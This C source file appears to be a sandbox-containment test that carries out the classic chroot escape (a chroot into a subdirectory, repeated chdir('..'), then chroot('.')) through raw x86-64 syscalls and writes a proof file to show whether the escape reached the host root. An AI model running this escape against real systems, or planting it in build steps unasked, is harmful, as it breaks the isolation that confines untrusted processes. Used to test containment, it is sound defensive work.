// SPDX-License-Identifier: GPL-2.0
/*
 * The classic chroot escape (tests/drivers/escape, run during its build): mkdir,
 * chroot("rig-esc-sub"), chdir("..") 64 times, chroot("."), then write the file named by
 * argv[1] at what is now the root. A process that may call chroot(2) (CAP_SYS_CHROOT) and
 * was only chrooted ends up at the host's root; in the rig's build sandbox chroot(2) is
 * refused, and even a write that works lands in the sandbox's own /tmp.
 *
 * Freestanding, raw x86-64 system calls: the toolchain chroot has no libc headers.
 * Build: $(CC) -static -nostdlib -ffreestanding -fno-builtin -fno-stack-protector -o esc esc.c
 */
#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_exit 60
#define SYS_chdir 80
#define SYS_mkdir 83
#define SYS_chroot 161
#define O_WRONLY 01
#define O_CREAT 0100
#define O_TRUNC 01000

__asm__(".text\n"
	".globl _start\n"
	"_start:\n"
	"\txor %ebp, %ebp\n"
	"\tmov %rsp, %rdi\n"
	"\tand $-16, %rsp\n"
	"\tcall esc_main\n"
	"\tmov %eax, %edi\n"
	"\tmov $60, %eax\n"
	"\tsyscall\n");

static long sys3(long n, long a, long b, long c)
{
	long ret;

	__asm__ volatile("syscall"
			 : "=a"(ret)
			 : "a"(n), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return ret;
}

static long len(const char *s)
{
	long n = 0;

	while (s[n])
		n++;
	return n;
}

static void put(const char *s)
{
	sys3(SYS_write, 1, (long)s, len(s));
}

/* "escape: (a) WHAT: ok" or "escape: (a) WHAT: errno N" */
static void report(const char *what, long ret)
{
	char num[24];
	int i = sizeof(num) - 1;
	unsigned long e = ret < 0 ? -ret : 0;

	num[i] = 0;
	do {
		num[--i] = '0' + e % 10;
		e /= 10;
	} while (e && i > 0);
	put("escape: (a) ");
	put(what);
	put(ret < 0 ? ": errno " : ": ok\n");
	if (ret < 0) {
		put(num + i);
		put("\n");
	}
}

__attribute__((used)) int esc_main(long *sp)
{
	char **argv = (char **)(sp + 1);
	const char *proof = sp[0] > 1 ? argv[1] : "/tmp/rig-escape-proof";
	long ret, fd;
	int i;

	sys3(SYS_mkdir, (long)"rig-esc-sub", 0755, 0);
	ret = sys3(SYS_chroot, (long)"rig-esc-sub", 0, 0);
	report("chroot(\"rig-esc-sub\")", ret);
	if (ret == 0) {
		for (i = 0; i < 64; i++)
			sys3(SYS_chdir, (long)"..", 0, 0);
		report("chroot(\".\") after 64 x chdir(\"..\")", sys3(SYS_chroot, (long)".", 0, 0));
	}
	fd = sys3(SYS_open, (long)proof, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	report("open(proof) for writing", fd);
	if (fd >= 0) {
		sys3(SYS_write, fd, (long)"rig-escape-proof\n", 17);
		sys3(SYS_close, fd, 0, 0);
		put("escape: (a) wrote ");
		put(proof);
		put(ret == 0 ? " after chroot(\"rig-esc-sub\") worked: ESCAPED if it is on the host\n"
			     : " in the sandbox's own /tmp (chroot refused)\n");
	}
	return 0;
}
